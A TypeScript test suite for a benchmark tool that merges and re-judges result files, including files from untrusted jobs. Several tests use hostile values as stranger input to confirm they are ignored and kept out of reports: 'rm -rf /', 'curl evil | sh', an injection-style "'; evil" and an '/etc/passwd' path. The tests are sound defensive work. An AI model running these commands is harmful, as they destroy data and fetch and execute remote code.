// Result files are judged again from their samples, alone and together.
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import {
  extractRunToJudgeFromResultFile,
  judgeOtherJobsResults,
  listMeasuredSettingsDifferingFromTrusted,
  mergeResultFiles,
  type ResultFileToMergeOrWhyInvalid,
  type ResultJudgingContextOfPublishingJob,
  refuseTooLargeMerge,
  type TrustedJudgingSettingsAndRules,
  trustedSettingsOfPublishingJob,
} from '../../../src/core/merge/merge-results.ts'
import type { BenchmarkSeries } from '../../../src/core/model/measuring.ts'
import type { ResultFile } from '../../../src/core/model/result-file.ts'
import type { RunSettings, ShardNumber } from '../../../src/core/model/settings.ts'
import { renderFullestReportWithinLimit } from '../../../src/core/report/say/fit-limit.ts'
import { markdownOfRunReport } from '../../../src/core/report/show/markdown.ts'
import { parseResultFile } from '../../../src/core/result/read-result.ts'
import { collectSeriesFromRounds } from '../../../src/core/rounds/collect.ts'
import { readInputsWithSeed } from '../../../src/effects/inputs/inputs.ts'
import { testProperty } from '../../support/long.ts'
import { around, type Reading, roundsFrom } from '../../support/rounds.ts'
import { settings as drawnRules, suites } from '../judge/random-series.ts'
import { withoutSentencesOfGoldenReports } from '../report/golden-reports.ts'
import { commits, first, goSettings, resultFrom, settings, steady, time } from '../report/runs.ts'
import { samples } from '../report/samples.ts'
import { everyKind, inHalves, measuredAgain } from '../result/results.ts'
import { named, part, trusted } from './parts.ts'

describe('merge results', () => {
  /** Judged by the settings that it was measured with. */
  function own({ settings: its, rules, commits }: ResultFile): TrustedJudgingSettingsAndRules {
    return {
      settings: its,
      rules,
      from: { base: commits.base.from, head: commits.head.from },
      isStrangers: false,
    }
  }

  function again(file: ResultFile): ResultFile {
    const read = parseResultFile(JSON.stringify(file))
    return { ...mergeResultFiles([{ name: 'result.json', result: read }], own(file)), merged: null }
  }

  describe('a single file, by its own settings', () => {
    // The report of `confirmed` is put together by hand; base-failed keeps no words of ours.
    const made = Object.entries(samples).filter(
      ([name]) => !['confirmed', 'base-broken', 'new-benchmark-file'].includes(name),
    )

    test.each([...made, ...Object.entries(everyKind)])('%s is judged as it was', (_, make) => {
      const file = make()
      expect(again(file)).toEqual(file)
    })

    test('a base that failed stays so, without the reason in words of the file', () => {
      const file = (samples['base-broken'] as () => ResultFile)()
      expect(again({ ...file, reason: 'All is well' })).toEqual({
        ...file,
        reason: 'Base (111111111) could not be measured',
      })
    })

    testProperty('whatever was measured and however it was judged', 200, numRuns => {
      fc.assert(
        fc.property(suites(4), drawnRules, fc.boolean(), (series, rules, isAgain) => {
          const file = resultOfSeries(series, rules, isAgain)
          expect(again(file)).toEqual(file)
        }),
        { numRuns },
      )
    })
  })

  function readingsOf(series: readonly BenchmarkSeries[], side: 'base' | 'head'): readonly Reading[] {
    return series.map(({ benchmark, unit, [side]: values }) => ({ benchmark, unit, values }))
  }

  function resultOfSeries(series: readonly BenchmarkSeries[], rules: object, isAgain: boolean): ResultFile {
    const [base, head] = [readingsOf(series, 'base'), readingsOf(series, 'head')]
    const rounds = roundsFrom(base, head)
    const second = { rounds, series: collectSeriesFromRounds(rounds, new Map()), isRelinked: false }
    return resultFrom(base, head, { ...rules, again: isAgain ? second : null })
  }

  /** What a stranger's file says of itself. */
  const lies = {
    verdict: 'pass',
    reason: 'Nothing to see',
    stopped: 'count',
    settings: { ...settings, threshold: 1, alpha: 1e-9, failOn: 'never', calibrate: true, run: 'rm -rf /' },
  } as const

  const judged = (...files: readonly ResultFileToMergeOrWhyInvalid[]) => mergeResultFiles(files, trusted)

  test('statistics in a file are computed anew', () => {
    const honest = resultFrom([time('A', 1e-3)], [time('A', 2e-3)])
    const comparisons = honest.comparisons.map(one => ({
      ...one,
      ...({ change: 'unchanged', p: 1, pairedP: 1, adjustedP: 1, better: 'higher', ruledOut: 0 } as const),
      base: { ...one.base, center: 9 },
    }))
    const result = judged(named({ ...honest, ...lies, comparisons }))
    expect(result).toMatchObject({ verdict: 'fail', reason: '1 of 1 benchmark regressed', calibration: null })
    expect(result.comparisons[0]).toMatchObject({
      change: 'regressed',
      better: 'lower',
      delta: expect.closeTo(1, 1),
    })
    expect(result.settings).toEqual({ ...settings, seed: 42 })
    expect(result.commits.head).toEqual({ ...honest.commits.head, from: 'h' })
  })

  test('what cannot be computed passes nothing where strangers say it', () => {
    const untouched = (samples.untouched as () => ResultFile)()
    const proven = (samples.proven as () => ResultFile)()
    expect(judged(named(untouched))).toMatchObject({
      verdict: 'inconclusive',
      reason: 'Nothing was measured: according to the measuring job, no file matching `paths` changed',
    })
    expect(judged(named(proven))).toMatchObject({
      verdict: 'inconclusive',
      reason:
        'Nothing was measured: according to the measuring job, everything that 2 benchmarks can reach is identical',
    })
    expect(judged(named((samples['partly-proven'] as () => ResultFile)()))).toMatchObject({
      verdict: 'pass',
      reason: 'No regression in 1 benchmark; 3 more benchmarks unchanged (according to the measuring job)',
    })
    for (const file of [untouched, proven])
      expect(mergeResultFiles([named(file)], { ...trusted, isStrangers: false }).verdict).toBe('pass')
  })

  const whole = [time('A', 1e-3), time('B', 2e-3), first(12, time('C', 3e-3)), steady('C', 'B/op', 5)]
  const slower = [
    time('A', 1.1e-3),
    time('B', 2.01e-3),
    first(12, time('C', 3.01e-3)),
    steady('C', 'B/op', 5),
  ]

  test('shards are judged as the whole would be', () => {
    const one = part(whole.slice(0, 2), slower.slice(0, 2), [1, 2])
    const two = part(whole.slice(2), slower.slice(2), [2, 2])
    const result = judged(two, one)
    const alone = resultFrom(whole, slower, { confirm: true })
    expect(result.comparisons).toEqual(alone.comparisons)
    expect(result).toMatchObject({ verdict: alone.verdict, reason: alone.reason, geomeans: alone.geomeans })
    expect(result.rounds).toHaveLength(20)
    expect(result.rounds[0]).toMatchObject({ round: 1, block: 1, first: null, base: { seconds: 4 } })
    expect(result.merged).toMatchObject({ files: 2, missing: [], machines: [{ cores: 4 }, { cores: 4 }] })
  })

  test('replicas are blocks, whose rounds all count, and none of them ended early', () => {
    const fast = part([time('A', 1e-3)], [time('A', 1.1e-3)], null, [1, 2])
    const slow = part([time('A', 2e-3)], [time('A', 2.2e-3)], null, [2, 2])
    const result = judged(slow, fast)
    expect(result.settings).toMatchObject({ count: 40, stopEarly: false, replica: null })
    expect(result.rounds.map(({ block }) => block)).toEqual([...Array(20).fill(1), ...Array(20).fill(2)])
    expect(result.rounds.map(({ round }) => round)).toEqual(Array.from({ length: 40 }, (_, n) => n + 1))
    const [only] = result.comparisons
    expect(only?.base.samples).toEqual([...time('A', 1e-3).values, ...time('A', 2e-3).values])
    // In one pool the machines would lie twice as far apart as the sides.
    expect(only?.ratio?.low).toBeGreaterThan(1.08)
    expect(only?.pairedP).toBeLessThan(1e-9)
  })

  test('a unit that head does not report on one replica leaves the verdict open, a benchmark that it lacks there does not', () => {
    const [a, b] = [time('A', 1), time('B', 1)]
    const bytes = { ...time('A', 64), unit: 'B/op' }
    const judge = (head: readonly Reading[]) =>
      mergeResultFiles(
        [part([a, bytes, b], head, null, [1, 2]), part([a, bytes, b], [a, bytes, b], null, [2, 2])],
        trusted,
      )
    expect(judge([a, bytes, b])).toMatchObject({ verdict: 'pass', unmatched: { base: [], head: [] } })
    expect(judge([a, b])).toMatchObject({
      verdict: 'inconclusive',
      unmatched: { base: [{ benchmark: 'A', package: null, unit: 'B/op' }], head: [] },
    })
    expect(judge([a, bytes])).toMatchObject({ verdict: 'pass', unmatched: { base: [], head: [] } })
  })

  test('shards of several replicas stand side by side, each replica a block', () => {
    const parts = [1, 2].flatMap(shard =>
      [1, 2].map(replica => {
        const center = replica * 1e-3
        return part([time(`S${shard}`, center)], [time(`S${shard}`, center * 1.2)], [shard, 2], [replica, 2])
      }),
    )
    const result = judged(...parts)
    expect(result.rounds).toHaveLength(40)
    expect(result.comparisons.map(({ benchmark }) => benchmark)).toEqual(['S1', 'S2'])
    expect(result.comparisons[1]?.head.samples).toEqual([
      ...time('S2', 1.2e-3).values,
      ...time('S2', 2.4e-3).values,
    ])
  })

  test('parts that had rounds enough for themselves are told where all together have not', () => {
    const many = (shard: number) => Array.from({ length: 100 }, (_, n) => first(8, time(`S${shard}B${n}`, 1)))
    const parts = ([1, 2] as const).map(shard => part(many(shard), many(shard), [shard, 2]))
    const eight = { ...trusted, settings: { ...settings, count: 8 } }
    expect(mergeResultFiles(parts, eight).warnings).toEqual([
      { kind: 'too-few-rounds', comparisons: 200, least: 15 },
    ])
    expect(judged(...parts).warnings).toEqual([])
  })

  test('a part that is missing, double or unreadable leaves open what has not failed', () => {
    const one = part([time('A', 1e-3)], [time('A', 1e-3)], [1, 3])
    const two = part([time('B', 1e-3)], [time('B', 2e-3)], [2, 3])
    const broken = { name: '3/result.json', problem: 'The file is not JSON.' }
    const absent = judged(one, broken)
    expect(absent).toMatchObject({
      verdict: 'inconclusive',
      reason: '2 parts of the suite could not be judged; no regression in 1 benchmark',
    })
    expect(absent.merged?.missing).toEqual([
      { shard: [2, 3], replica: null, why: 'absent', files: [], message: '' },
      { shard: [3, 3], replica: null, why: 'absent', files: [], message: '' },
      {
        shard: null,
        replica: null,
        why: 'unreadable',
        files: ['3/result.json'],
        message: 'The file is not JSON.',
      },
    ])
    expect(judged(one, two, broken)).toMatchObject({
      verdict: 'fail',
      reason: '1 of 2 benchmarks regressed; 1 part of the suite could not be judged',
    })
    const three = part([time('C', 1)], [time('C', 1)], [3, 3])
    expect(
      judged(one, { ...one, name: 'again.json' }, part([time('B', 1)], [time('B', 1)], [2, 3]), three),
    ).toMatchObject({
      verdict: 'inconclusive',
      merged: { files: 3, missing: [{ why: 'double', files: ['1-0.json', 'again.json'] }] },
    })
  })

  test('without a file that can be read there is nothing to judge', () => {
    expect(() => judged({ name: 'a', problem: 'The file is not JSON.' })).toThrow(
      'results: the only file is not a result file. "a": The file is not JSON. Did the measuring job',
    )
    expect(() => judged()).toThrow('results: none of 0 files is a result file. Did')
  })

  test('a shard whose base failed is missing; where all did, base failed', () => {
    const broken = (samples['base-broken'] as () => ResultFile)()
    const failed = (number: number) =>
      named({ ...broken, settings: { ...settings, shard: [number, 2] } }, `${number}.json`)
    expect(judged(failed(1), part([time('A', 1)], [time('A', 1)], [2, 2]))).toMatchObject({
      verdict: 'inconclusive',
      merged: {
        files: 1,
        missing: [{ shard: [1, 2], why: 'unmeasured', message: expect.stringContaining('exit code 1') }],
      },
    })
    expect(judged(failed(1), failed(2))).toMatchObject({
      verdict: 'inconclusive',
      reason: 'Base (111111111) could not be measured',
      baseFailed: { message: expect.stringContaining('exit code 1') },
    })
  })

  test('a shard in which nothing had to be measured says nothing of one that is missing, and an empty one is there', () => {
    const [one, two] = [1, 2].map(n => part([time(`B${n}`, 1e-3)], [time(`B${n}`, 1e-3)], [n, 2])) as [
      ReturnType<typeof part>,
      ReturnType<typeof part>,
    ]
    const without = (stopped: 'unchanged' | 'empty') => {
      const nothing = { comparisons: [], rounds: [], geomeans: [], stopped }
      return { ...two, result: { ...two.result, ...nothing } }
    }
    const judged = (...files: readonly ResultFileToMergeOrWhyInvalid[]) => {
      const { verdict, merged } = mergeResultFiles(files, { ...trusted, isStrangers: false })
      return [verdict, merged?.missing.length]
    }
    expect(judged(without('unchanged'))).toEqual(['inconclusive', 1])
    expect(judged(one, without('unchanged'))).toEqual(['inconclusive', 1])
    expect(judged(one, without('empty'))).toEqual(['pass', 0])
    expect(judged(one, two)).toEqual(['pass', 0])
  })
})

// What of a file counts, and what does not.
describe('recorded in', () => {
  test('samples become series again, with their halves, and those of a second measurement', () => {
    const halves = inHalves()
    const [series] = extractRunToJudgeFromResultFile(halves, trusted).series
    expect(series).toMatchObject({ benchmark: 'A', worse: halves.comparisons[0]?.worse })
    const twice = extractRunToJudgeFromResultFile(measuredAgain(), trusted)
    expect(twice.again?.rounds).toHaveLength(14)
    expect(twice.again?.series.map(({ benchmark, base }) => [benchmark, base.length])).toEqual([
      ['A', 14],
      ['B', 14],
    ])
  })

  test('settings are ours but for the seed, and so is how commits were found', () => {
    const file = resultFrom([time('A', 1)], [time('A', 1)], {
      seed: 7,
      threshold: 1,
      shard: [1, 2],
      run: 'evil',
    })
    const recorded = extractRunToJudgeFromResultFile(file, trusted)
    expect(recorded.settings).toEqual({ ...trusted.settings, seed: 7 })
    expect(recorded.commits.base).toEqual({ ...file.commits.base, from: 'b' })
  })

  test('the direction of a well-known unit is known; of others the file says it', () => {
    const file = resultFrom(
      [steady('A', 'sec/op', 1), steady('A', 'hits', 1)],
      [steady('A', 'sec/op', 1), steady('A', 'hits', 1)],
    )
    const comparisons = file.comparisons.map(one => ({
      ...one,
      better: 'higher' as const,
      assume: 'exact' as const,
    }))
    expect(
      extractRunToJudgeFromResultFile({ ...file, comparisons }, trusted).series.map(({ rule }) => rule),
    ).toEqual([
      { better: 'lower', assume: 'exact' },
      { better: 'higher', assume: 'exact' },
    ])
  })

  test('a file of our own is judged by the directions that base declared', () => {
    for (const [unit, better, change] of [
      ['errors/s', 'lower', 'regressed'],
      ['bytes', null, 'changed'],
    ] as const) {
      const [base, head] = [100, 120].map(center => [
        { benchmark: 'A', unit, values: around(center, 20) },
      ]) as [Reading[], Reading[]]
      const file = resultFrom(base, head, { rules: new Map([[unit, { better }]]) })
      expect(file.comparisons).toMatchObject([{ better, change }])
      const merged = mergeResultFiles([named(file)], { ...trusted, isStrangers: false })
      expect(merged.comparisons).toMatchObject([{ better, change }])
    }
  })

  test('of warnings only what samples do not show is taken', () => {
    const warnings = [
      { kind: 'steal', share: 0.5 },
      { kind: 'configuration', key: 'go', base: 'x', head: 'y' },
      { kind: 'configuration', key: 'cpu', base: 'x', head: 'y' },
      { kind: 'suite', changed: ['a'] },
    ] as const
    const file = { ...resultFrom([time('A', 1)], [time('A', 1)]), warnings }
    expect(extractRunToJudgeFromResultFile(file, trusted).warnings).toEqual(warnings.slice(2))
  })

  test('a file is of one machine, whatever it says of its rounds', () => {
    const file = measuredAgain()
    const apart = { ...file, rounds: file.rounds.map((one, index) => ({ ...one, block: index + 1 })) }
    const recorded = extractRunToJudgeFromResultFile({ ...apart, again: apart.rounds }, trusted)
    expect(
      new Set([...recorded.rounds, ...(recorded.again?.rounds ?? [])].map(({ block }) => block)),
    ).toEqual(new Set([1]))
  })
})

// What is small in each file can be too much together.
describe('refuse boundless', () => {
  const of = extractRunToJudgeFromResultFile(resultFrom([time('A', 1)], [time('A', 1)]), trusted)
  const [round] = of.rounds
  const [row] = of.series

  /** A replica with so many rows and rounds; what the rows hold does not matter. */
  function replica(number: number, rows: number, rounds: number, again = 0) {
    const second = { rounds: Array(again).fill(round), series: [] }
    const recorded = {
      ...of,
      series: Array(rows).fill(row),
      rounds: Array(rounds).fill(round),
      again: second,
    }
    return { shard: null, replica: [number, 256] as ShardNumber, recorded }
  }

  test('a large suite on many machines is judged', () => {
    expect(() => refuseTooLargeMerge([replica(1, 100_000, 60), replica(2, 100_000, 60)])).not.toThrow()
    expect(() =>
      refuseTooLargeMerge(Array.from({ length: 20 }, (_, n) => replica(n + 1, 500, 60))),
    ).not.toThrow()
  })

  test.each([
    ['many empty rounds beside many rows', [replica(1, 100_000, 1), replica(2, 0, 3000)]],
    ['the same of a second measurement', [replica(1, 100_000, 1), replica(2, 0, 1, 3000)]],
    [
      'many rows',
      Array.from({ length: 20 }, (_, n) => ({ ...replica(1, 20_000, 1), shard: [n + 1, 20] as ShardNumber })),
    ],
    ['many pairs', [replica(1, 1000, 3000), replica(2, 1000, 3000)]],
    ['many replicas', Array.from({ length: 256 }, (_, n) => replica(n + 1, n === 0 ? 50 : 0, 3000))],
  ])('%s are refused', (_, pieces) => {
    expect(() => refuseTooLargeMerge(pieces)).toThrow('too many to judge at once')
  })
})

// What a publishing job makes of the files of others.

describe('judge elsewhere', () => {
  const known: ResultJudgingContextOfPublishingJob = {
    inputs: readInputsWithSeed(name => (name === 'run' ? 'make bench' : '')),
    file: { file: '.github/benchgate.yml', changes: [] },
    rules: '3'.repeat(40),
    head: commits.head.sha,
    isStrangers: true,
  }
  const slower = (more = {}) => resultFrom([time('A', 1)], [time('A', 2)], { confirm: true, ...more })

  test("regressions are judged by our threshold, not by the file's verdict", () => {
    const file = {
      ...slower({ threshold: 1, alpha: 1e-9, run: 'make bench' }),
      verdict: 'pass' as const,
      reason: 'fine',
    }
    const result = judgeOtherJobsResults([named(file)], known)
    expect(result).toMatchObject({ verdict: 'fail', reason: '1 of 1 benchmark regressed' })
    expect(result.elsewhere).toEqual({
      rules: known.rules,
      changes: [
        { rule: 'alpha', base: '0.05', head: '1e-9' },
        { rule: 'threshold', base: '0.05', head: '1' },
      ],
    })
    expect(result.commits.head.from).toBe('reported by GitHub')
  })

  test('no path of a file is kept', () => {
    const [profile] = [{ files: { base: '../../x', head: '/etc/passwd' } }]
    const file = { ...slower(), profiles: [{ ...profile, functions: [] }] as never }
    expect(judgeOtherJobsResults([named(file)], known).profiles.map(({ files }) => files)).toEqual([null])
  })

  test('what one machine has measured otherwise is told once', () => {
    const ours = [time('A', 1)]
    const parts = [part(ours, ours, [1, 2]), part([time('B', 1)], [time('B', 1)], [2, 2])]
    const result = judgeOtherJobsResults(parts, known)
    expect(result.elsewhere?.changes).toEqual([
      { rule: 'confirm', base: 'true', head: 'false' },
      { rule: 'run', base: 'make bench', head: 'go test -run=NONE -bench=. ./...' },
    ])
  })

  test('if no file can be read, the error says why', () => {
    const broken = { name: 'a/result.json', problem: 'It is a link.' }
    expect(() => judgeOtherJobsResults([broken], known)).toThrow('a/result.json": It is a link.')
  })

  test('the report looks like this, and has no command of theirs', async () => {
    const file = slower({ run: 'curl evil | sh', setup: 'rm -rf /', overlay: ["'; evil"], count: 30 })
    const files = [named(file)]
    const withRun = markdown(judgeOtherJobsResults(files, known))
    await expect(withoutSentencesOfGoldenReports(withRun)).toMatchFileSnapshot('../../golden/elsewhere.md')
    const inputs = readInputsWithSeed(() => '')
    const without = markdown(judgeOtherJobsResults(files, { ...known, inputs }))
    for (const report of [withRun, without]) expect(shells(report)).not.toContain('evil')
    expect(without).not.toContain('To repeat')
  })

  const markdown = (result: ReturnType<typeof judgeOtherJobsResults>) =>
    renderFullestReportWithinLimit(result, 65_000, markdownOfRunReport)
  const shells = (report: string) =>
    [...report.matchAll(/```sh\n([\s\S]*?)```/g)].map(([, text]) => text).join('\n')
})

// By whose settings is judged, and which differences are told.
describe('trusted settings', () => {
  const inputs = (given: Readonly<Record<string, string>>) => readInputsWithSeed(name => given[name] ?? '')

  test('the settings in a file have no effect', () => {
    const theirs: RunSettings = {
      ...settings,
      threshold: 1,
      alpha: 0.5,
      failOn: 'never',
      run: 'curl evil | sh',
    }
    const ours = trustedSettingsOfPublishingJob(inputs({ run: 'make bench', threshold: '3%' }), theirs)
    expect(ours).toMatchObject({ threshold: 0.03, alpha: 0.05, failOn: 'regression', run: 'make bench' })
  })

  test('the command is ours, that of the Go driver by our inputs, or not known', () => {
    const run = (given: Readonly<Record<string, string>>, theirs: RunSettings) =>
      trustedSettingsOfPublishingJob(inputs(given), theirs).run
    expect(run({}, settings)).toBe('')
    expect(run({ bench: 'Encode' }, { ...settings, go: goSettings })).toContain(
      "-bench 'Encode'".replaceAll("'", ''),
    )
    expect(run({ run: 'make' }, { ...settings, go: goSettings })).toBe('make')
  })

  test('a calibration is judged as a gate', () => {
    const ours = trustedSettingsOfPublishingJob(inputs({ calibrate: 'true' }), settings)
    expect(ours.calibrate).toBe(false)
  })

  const told = (given: Readonly<Record<string, string>>, theirs: Partial<RunSettings>) => {
    const measured = { ...settings, run: 'make bench', ...theirs }
    const ours = trustedSettingsOfPublishingJob(inputs({ run: 'make bench', ...given }), measured)
    return listMeasuredSettingsDifferingFromTrusted(ours, measured).map(
      ({ rule, base, head }) => `${rule}: ${head} for ${base}`,
    )
  }

  test.each<[Partial<RunSettings>, readonly string[]]>([
    [{}, []],
    [{ seed: 9, failOn: 'never', sort: 'delta', perflock: 'off', timeout: 1, shard: [1, 2] }, []],
    [{ count: 5, ruleOut: 0.2 }, ['count: 5 for 20', 'rule-out: 0.2 for 0.1']],
    [{ overlay: ['a', 'b'] }, ['overlay: a, b for null']],
    [{ run: 'echo' }, ['run: echo for make bench']],
    [{ replica: [1, 2], stopEarly: false }, []],
    [{ stopEarly: false }, ['stop-early: false for true']],
  ])('measured with %j', (theirs, expected) => {
    expect(told({}, theirs).toSorted()).toEqual(expected)
  })

  test('of Go benchmarks it is told which input differs', () => {
    const theirs = {
      ...settings,
      run: 'x',
      go: { ...goSettings, bench: 'Fast', benchtime: '100ms', benchmem: true },
    }
    const ours = trustedSettingsOfPublishingJob(inputs({ 'working-directory': './sub/' }), theirs)
    expect(listMeasuredSettingsDifferingFromTrusted(ours, theirs)).toEqual([
      { rule: 'working-directory', base: 'sub', head: '.' },
      { rule: 'bench', base: '.', head: 'Fast' },
    ])
  })
})
